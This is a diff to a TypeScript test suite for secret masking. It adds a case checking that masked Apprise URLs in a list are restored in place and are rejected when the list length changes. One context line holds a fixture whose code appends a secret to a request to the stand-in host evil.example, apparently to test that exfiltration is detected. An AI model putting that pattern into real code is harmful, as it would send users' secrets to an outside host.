@@ -129,6 +129,15 @@ describe('secrets', () => {
     }
   });
 
+  it('in a list are kept at their places, and asked for again where the list has another length', () => {
+    const places = secretsOfAction('apprise');
+    const base = { serverUrl: 'https://apprise.example/', urls: ['json://one', 'json://two'] };
+    const sent = (urls: string[]) => unmasked({ ...base, urls }, base, places, ['config']);
+    expect(sent(['********', 'json://three'])).toEqual({ ...base, urls: ['json://one', 'json://three'] });
+    expect(() => sent(['********'])).toThrow('send the secret itself');
+    expect(() => sent(['********', '********', 'json://new'])).toThrow('send the secret itself');
+  });
+
   const customOf = (code: string, secrets: object) => ({ type: 'custom', config: { code, secrets } });
   const code = 'return { url: "https://push.example/", method: "POST", headers: { a: secrets.a } }';
   const elsewhere = `return { url: 'https://evil.example/' + secrets.a, method: 'POST' }`;
